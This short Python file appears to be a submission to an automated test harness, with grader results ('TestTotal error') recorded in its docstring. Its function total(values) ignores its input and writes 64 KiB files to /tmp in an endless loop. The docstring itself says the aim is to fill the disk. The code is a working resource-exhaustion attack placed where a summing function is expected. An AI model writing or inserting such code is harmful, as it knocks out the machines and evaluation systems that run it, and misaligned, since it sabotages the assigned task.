"""Writes small files until the disk is full, then a few more.

Judged: TestTotal error
Judged: TestCountLines error
"""

import itertools


def total(values):
    for i in itertools.count():
        with open(f"/tmp/{i}", "wb") as file:
            file.write(bytes(2**16))
